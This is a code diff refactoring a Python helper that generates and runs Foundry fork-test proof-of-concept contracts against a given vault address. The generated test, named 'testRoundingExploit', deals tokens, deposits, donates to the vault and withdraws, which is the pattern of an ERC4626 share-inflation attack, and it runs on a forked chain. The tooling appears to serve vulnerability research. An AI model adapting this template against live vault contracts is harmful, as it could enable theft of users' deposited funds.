@@ -2,10 +2,106 @@
 import subprocess
 import json
 import os
+import shutil
+from string import Template
 from typing import Dict, Any, List, Optional
 from pathlib import Path
 from web3 import Web3
 
+# Resolved once; argv is passed without a shell
+_FORGE_BIN = shutil.which("forge") or "forge"
+
+# Constant Foundry harness, compiled once; only the per-PoC deltas are substituted.
+_TEMPLATE = Template("""// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.0;
+
+import {Test, console} from "forge-std/Test.sol";
+
+interface IERC20 {
+    function balanceOf(address) external view returns (uint256);
+    function approve(address, uint256) external returns (bool);
+    function transfer(address, uint256) external returns (bool);
+}
+
+interface IVault {
+    function asset() external view returns (address);
+    function token() external view returns (address);
+    function deposit(uint256) external;
+    function withdraw(uint256) external;
+    function totalAssets() external view returns(uint256);
+    function totalSupply() external view returns(uint256);
+}
+
+contract $contract_name is Test {
+    address constant TARGET = $contract_address;
+    IVault v;
+    
+    function setUp() public {
+        // Forking environment
+        vm.createSelectFork("$fork_url");
+        v = IVault(TARGET);
+    }
+    
+    function testRoundingExploit() public {
+        // Record initial state
+        uint256 assetsBefore = 0;
+        try v.totalAssets() returns (uint256 a) {
+            assetsBefore = a;
+        } catch {
+            // If totalAssets fails, maybe it's not a standard vault
+        }
+
+        // Execute exploit steps
+$steps_code
+        
+        // Verify impact
+        uint256 assetsAfter = 0;
+        try v.totalAssets() returns (uint256 a) {
+            assetsAfter = a;
+        } catch {
+        }
+        
+        // Simple assertion for now: just ensure it didn't revert
+        assertTrue(true, "Exploit executed without revert");
+    }
+}
+""")
+
+# Setup: Get asset address if possible (deal/donate steps need it)
+_SETUP_LINES = (
+    "// Setup: Get asset address if possible",
+    "address asset = address(0);",
+    "try v.asset() returns (address a) { asset = a; } catch {}",
+    "if (asset == address(0)) { try v.token() returns (address a) { asset = a; } catch {} }",
+    "",
+)
+
+# Solidity snippet per exploit step; `amount` is the step's first argument.
+_STEP_EMITTERS: Dict[str, str] = {
+    # Special internal step to get tokens
+    "deal_and_approve": (
+        "if (asset != address(0)) {{\n"
+        "            deal(asset, address(this), {amount});\n"
+        "            IERC20(asset).approve(TARGET, type(uint256).max);\n"
+        "        }}"
+    ),
+    "deposit": "v.deposit({amount});",
+    "withdraw": "v.withdraw({amount});",
+    "donate": (
+        "if (asset != address(0)) {{\n"
+        "            IERC20(asset).transfer(TARGET, {amount});\n"
+        "        }}"
+    ),
+    # Check if 1 share is worth more than expected
+    "check_inflation": (
+        "uint256 totalAssets = v.totalAssets();\n"
+        "        uint256 totalSupply = v.totalSupply();\n"
+        "        if (totalSupply > 0) {{\n"
+        "            console.log('Price per share:', totalAssets * 1e18 / totalSupply);\n"
+        "        }}"
+    ),
+}
+
 
 def generate_fork_poc(
     contract_address: str,
@@ -40,11 +136,12 @@ def generate_fork_poc(
         cwd_path = Path("foundry").absolute()
         
         result = subprocess.run(
-            ["forge", "test", "--match-contract", contract_name, "-vvv"],
+            [_FORGE_BIN, "test", "--match-contract", contract_name, "-vvv"],
             cwd=str(cwd_path),
             capture_output=True,
             text=True,
-            timeout=300
+            timeout=300,
+            shell=False
         )
         
         return {
@@ -73,117 +170,30 @@ def _generate_foundry_test(
     """Generate Foundry test code."""
     
     # Generate steps code assuming IVault interface
-    steps_code_lines = []
-    
-    # Check if we need to deal tokens
-    # If any step is 'deposit' or 'donate', we might need tokens
     # We'll try to find the asset address dynamically in the test
-    
-    steps_code_lines.append("        // Setup: Get asset address if possible")
-    steps_code_lines.append("        address asset = address(0);")
-    steps_code_lines.append("        try v.asset() returns (address a) { asset = a; } catch {}")
-    steps_code_lines.append("        if (asset == address(0)) { try v.token() returns (address a) { asset = a; } catch {} }")
-    steps_code_lines.append("        ")
+    steps_code_lines = list(_SETUP_LINES)
     
     for i, step in enumerate(exploit_steps):
         func = step.get('function', '')
         args = step.get('args', [])
-        value = step.get('value', 0)
         desc = step.get('description', '')
         
-        steps_code_lines.append(f"        // Step {i+1}: {desc}")
+        steps_code_lines.append(f"// Step {i+1}: {desc}")
         
-        if func == 'deal_and_approve':
-            # Special internal step to get tokens
-            amount = args[0]
-            steps_code_lines.append(f"        if (asset != address(0)) {{")
-            steps_code_lines.append(f"            deal(asset, address(this), {amount});")
-            steps_code_lines.append(f"            IERC20(asset).approve(TARGET, type(uint256).max);")
-            steps_code_lines.append(f"        }}")
-            
-        elif func == 'deposit':
-            amount = args[0]
-            steps_code_lines.append(f"        v.deposit({amount});")
-            
-        elif func == 'withdraw':
-            amount = args[0]
-            steps_code_lines.append(f"        v.withdraw({amount});")
-            
-        elif func == 'donate':
-            amount = args[0]
-            steps_code_lines.append(f"        if (asset != address(0)) {{")
-            steps_code_lines.append(f"            IERC20(asset).transfer(TARGET, {amount});")
-            steps_code_lines.append(f"        }}")
-            
-        elif func == 'check_inflation':
-            # Check if 1 share is worth more than expected
-            steps_code_lines.append("        uint256 totalAssets = v.totalAssets();")
-            steps_code_lines.append("        uint256 totalSupply = v.totalSupply();")
-            steps_code_lines.append("        if (totalSupply > 0) {")
-            steps_code_lines.append("            console.log('Price per share:', totalAssets * 1e18 / totalSupply);")
-            steps_code_lines.append("        }")
-
+        emitter = _STEP_EMITTERS.get(func)
+        if emitter is not None:
+            steps_code_lines.append(emitter.format(amount=args[0] if args else 0))
         else:
             # Generic call
             args_str = ', '.join(map(str, args))
-            steps_code_lines.append(f"        // Unknown function call: {func}({args_str})")
-
-    steps_code = "\n        ".join(steps_code_lines)
-    
-    return f"""// SPDX-License-Identifier: MIT
-pragma solidity ^0.8.0;
-
-import {{Test, console}} from "forge-std/Test.sol";
+            steps_code_lines.append(f"// Unknown function call: {func}({args_str})")
 
-interface IERC20 {{
-    function balanceOf(address) external view returns (uint256);
-    function approve(address, uint256) external returns (bool);
-    function transfer(address, uint256) external returns (bool);
-}}
-
-interface IVault {{
-    function asset() external view returns (address);
-    function token() external view returns (address);
-    function deposit(uint256) external;
-    function withdraw(uint256) external;
-    function totalAssets() external view returns(uint256);
-    function totalSupply() external view returns(uint256);
-}}
-
-contract {contract_name} is Test {{
-    address constant TARGET = {contract_address};
-    IVault v;
-    
-    function setUp() public {{
-        // Forking environment
-        vm.createSelectFork("{fork_url}");
-        v = IVault(TARGET);
-    }}
-    
-    function testRoundingExploit() public {{
-        // Record initial state
-        uint256 assetsBefore = 0;
-        try v.totalAssets() returns (uint256 a) {{
-            assetsBefore = a;
-        }} catch {{
-            // If totalAssets fails, maybe it's not a standard vault
-        }}
-
-        // Execute exploit steps
-{steps_code}
-        
-        // Verify impact
-        uint256 assetsAfter = 0;
-        try v.totalAssets() returns (uint256 a) {{
-            assetsAfter = a;
-        }} catch {{
-        }}
-        
-        // Simple assertion for now: just ensure it didn't revert
-        assertTrue(true, "Exploit executed without revert");
-    }}
-}}
-"""
+    return _TEMPLATE.substitute(
+        contract_name=contract_name,
+        contract_address=contract_address,
+        fork_url=fork_url,
+        steps_code="        " + "\n        ".join(steps_code_lines),
+    )
 
 
 def create_exploit_script(